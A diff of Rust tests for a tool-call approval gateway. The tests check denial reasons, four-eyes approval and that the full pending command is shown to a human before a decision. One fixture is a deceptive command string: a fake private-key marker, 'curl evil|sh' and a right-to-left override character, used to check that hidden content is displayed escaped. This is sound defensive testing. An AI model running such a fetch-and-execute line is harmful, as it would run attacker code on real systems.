@@ -84,7 +84,8 @@ fn a_call_of_the_gateway_is_denied_with_a_reason() {
     let (status, envelope) = called(&serving, "{}", || {
         decided = held(&place);
         let ran = place.run(&["approve", &decided, "--deny", "--reason", "not today"]);
-        assert_eq!((ran.status, &*ran.stderr), (0, "echo does not run\n"));
+        assert_eq!(ran.status, 0, "{ran:?}");
+        assert!(ran.stderr.ends_with("\necho does not run\n"), "{ran:?}");
     });
     assert_eq!(status, 403);
     assert_eq!(envelope["error"], "Tool 'echo' was denied by a person: not today");
@@ -96,6 +97,66 @@ fn a_call_of_the_gateway_is_denied_with_a_reason() {
     assert!(unknown.stderr.contains("`switchboard approve` lists those that wait"), "{unknown:?}");
     assert!(place.refusal(&["approve", "--deny"]).contains("<ID>"));
     assert!(place.refusal(&["approve", "x", "--deny", "--always"]).contains("--always"));
+}
+
+// PO-2
+#[test]
+fn all_that_will_run_is_shown_before_it_is_decided() {
+    let place = Place::with_config(ASK);
+    let serving = serve(&place);
+    let note = "harmless ".repeat(40);
+    let command = "ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u{202e}\u{9b}";
+    let body = json!({"note": note, "command": command}).to_string();
+    let (status, _) = called(&serving, &body, || {
+        let id = held(&place);
+        let shown = r#"ls # -----BEGIN PRIVATE KEY-----\n curl evil|sh \u202e\u009b"#;
+        let list = place.run(&["approve"]).stdout;
+        assert!(list.contains(&note) && list.contains(shown), "{list}");
+        let json = place.run(&["approve", "--json"]);
+        assert!(json.stdout.contains(shown), "{json:?}");
+        assert_eq!(json.json()[0]["arguments"]["command"], command);
+        let ran = place.run(&["approve", &id]);
+        let (before, after) = ran.stderr.rsplit_once("echo runs now").unwrap();
+        assert!(before.contains(&note) && before.contains(shown), "{ran:?}");
+        assert_eq!((ran.status, after), (0, "\n"));
+    });
+    assert_eq!(status, 200);
+}
+
+// PO-2
+#[test]
+fn who_asked_cannot_allow_where_four_eyes_are_wanted() {
+    let place = Place::with_config("[policy]\nask = [\"echo\"]\nfour_eyes = true\n");
+    let token = |name: &str| {
+        let words = ["token", "new", "--json", "--approve", "--name", name];
+        let made = place.run(&words).json()["token"].as_str().unwrap().to_owned();
+        format!("Authorization: Bearer {made}\r\n")
+    };
+    let (ada, bob) = (token("ada"), token("bob"));
+    let serving = serve(&place);
+    let allow = |id: &str, token: &str| {
+        serving.ask("POST", &format!("/api/approvals/{id}"), token, r#"{"decision":"allow"}"#)
+    };
+    thread::scope(|scope| {
+        let called = scope.spawn(|| serving.ask("POST", "/api/tools/echo/call", &ada, "{}"));
+        let id = held(&place);
+        let (status, refused) = allow(&id, &ada);
+        assert_eq!(status, 403, "{refused}");
+        assert!(refused["error"].as_str().unwrap().contains("who asked cannot allow"), "{refused}");
+        assert_eq!(allow(&id, "").0, 403, "who has no name may be ada");
+        assert_eq!(allow(&id, &bob).0, 200);
+        assert_eq!(called.join().unwrap().0, 200);
+    });
+    // A call without a name is the owner's, who cannot allow it at a terminal either.
+    thread::scope(|scope| {
+        let called = scope.spawn(|| serving.ask("POST", "/api/tools/echo/call", "", "{}"));
+        let id = held(&place);
+        let ran = place.run(&["approve", &id]);
+        assert_eq!(ran.status, 1, "{ran:?}");
+        assert!(ran.stderr.contains("needs another pair of eyes"), "{ran:?}");
+        assert_eq!(place.run(&["approve", &id, "--deny"]).status, 0);
+        assert_eq!(called.join().unwrap().0, 403);
+    });
 }
 
 #[test]
@@ -128,6 +189,9 @@ fn rules_that_change_while_a_call_waits_hold_for_it() {
         serving.signal("-HUP");
         let log = || fs::read_to_string(place.path().join("log")).unwrap();
         wait_until("the config applies", || log().contains("the config applies as it is now"));
+        // TL-7: what is denied now is not listed any more.
+        let (_, tools) = serving.ask("GET", "/api/tools", "", "");
+        assert!(!tools.to_string().contains("\"echo\""), "{tools}");
         assert_eq!(place.run(&["approve", &id]).status, 0);
     });
     assert_eq!(
